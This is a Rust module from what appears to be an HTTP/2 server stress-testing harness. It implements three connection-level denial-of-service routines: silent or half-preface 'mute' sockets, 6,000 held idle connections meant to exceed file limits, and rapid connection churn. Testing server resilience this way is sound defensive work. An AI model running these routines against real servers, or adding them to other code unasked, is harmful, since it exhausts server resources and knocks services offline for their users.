//! Attacks by connections only.

use std::{io, net::SocketAddr, sync::atomic::Ordering::Relaxed};

use futures_util::future::join_all;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use super::{
    CLOSED, hold_forever, on_each_connection,
    raw_connection::{PREFACE, RawConnection, socket},
};

/// The number of mute sockets.
const MUTE_SOCKETS: usize = 500;
/// The number of connections; more than the file limit of most servers.
const IDLE_CONNECTIONS: usize = 6_000;
/// The number of connections that are opened concurrently, below the backlog of
/// a listener.
const OPEN_CONCURRENCY: usize = 64;

/// Sockets that send nothing, half a preface, or the preface and no SETTINGS.
pub(super) async fn mute(to: SocketAddr) {
    let greeting = |n| [&[][..], &PREFACE[..12], PREFACE][n % 3];
    join_all((0..MUTE_SOCKETS).map(|n| tokio::spawn(send_and_wait(to, greeting(n))))).await;
}

/// Sends `bytes` and waits until the server has closed the connection.
async fn send_and_wait(to: SocketAddr, bytes: &'static [u8]) -> io::Result<()> {
    let mut stream = socket(to).await?;
    stream.write_all(bytes).await?;
    let mut scratch = [0; 1024];
    while stream.read(&mut scratch).await? > 0 {}
    CLOSED.fetch_add(1, Relaxed);
    Ok(())
}

/// Valid connections without traffic.
pub(super) async fn idle(to: SocketAddr) {
    let mut held = Vec::new();
    for _ in 0..IDLE_CONNECTIONS / OPEN_CONCURRENCY {
        held.extend(join_all((0..OPEN_CONCURRENCY).map(|_| RawConnection::open(to, &[]))).await);
    }
    hold_forever(held).await;
}

/// Connections that are opened and closed as fast as possible.
pub(super) async fn churn(to: SocketAddr) {
    on_each_connection(OPEN_CONCURRENCY, || async move { RawConnection::open(to, &[]).await.map(drop) })
        .await;
}
